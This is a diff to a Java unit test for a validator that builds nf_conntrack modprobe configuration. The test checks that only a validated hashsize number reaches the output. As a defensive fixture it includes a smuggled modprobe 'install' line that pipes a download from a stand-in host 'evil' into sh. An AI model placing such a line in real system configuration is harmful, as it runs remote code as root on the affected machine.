@@ -88,19 +88,24 @@ class RecommendationValidatorTest {
   }
 
   @Test
-  void shouldReadOnlyOneHashsizeOptionFromTheModprobeText() throws Exception {
+  void shouldCheckTheHashSizeNumberAndNeverPassTheRecordsModprobeTextOn() throws Exception {
     ValidRecommendation v = validator.validate(TestData.withHashsize("lb-1", 262144, 65536));
     assertThat(v.hashsize()).isEqualTo(65536L);
     assertThat(DropInText.modprobeConf(v)).endsWith("\noptions nf_conntrack hashsize=65536\n");
 
-    assertRejected(recommend(Map.of(MAX, 1024L), "install nf_conntrack /bin/sh -c 'curl evil | sh'"),
-        RejectReason.MODPROBE);
-    assertRejected(recommend(Map.of(MAX, 1024L), "options nf_conntrack hashsize=1024\noptions nf_conntrack "
-        + "hashsize=2048"), RejectReason.MODPROBE);
-    assertRejected(recommend(Map.of(MAX, 1024L), "options nf_conntrack hashsize=99999999999"),
-        RejectReason.VALUE_RANGE);
-    assertRejected(recommend(Map.of(MAX, 1024L, BUCKETS, 512L), "options nf_conntrack hashsize=1024"),
-        RejectReason.MODPROBE).hasMessageContaining("differs");
+    ValidRecommendation evil = validator.validate(withHashsize(Map.of(MAX, 1024L), 1024L,
+        "install nf_conntrack /bin/sh -c 'curl evil | sh'"));
+    assertThat(DropInText.modprobeConf(evil).lines().filter(l -> !l.startsWith("#")))
+        .containsExactly("options nf_conntrack hashsize=1024");
+    assertRejected(withHashsize(Map.of(MAX, 1024L), 99_999_999_999L, null), RejectReason.VALUE_RANGE);
+    assertRejected(withHashsize(Map.of(MAX, 1024L), 0L, null), RejectReason.VALUE_RANGE);
+    assertRejected(withHashsize(Map.of(MAX, 1024L, BUCKETS, 512L), 1024L, null), RejectReason.MODPROBE)
+        .hasMessageContaining("differs");
+  }
+
+  private static Recommendation withHashsize(Map<String, Long> recommended, Long hashsize, String modprobe) {
+    return new Recommendation("lb-1", T, Severity.CRITICAL, Map.of(MAX, 200L), recommended, List.of("why"),
+        "ignored", modprobe, null, hashsize);
   }
 
   @Test
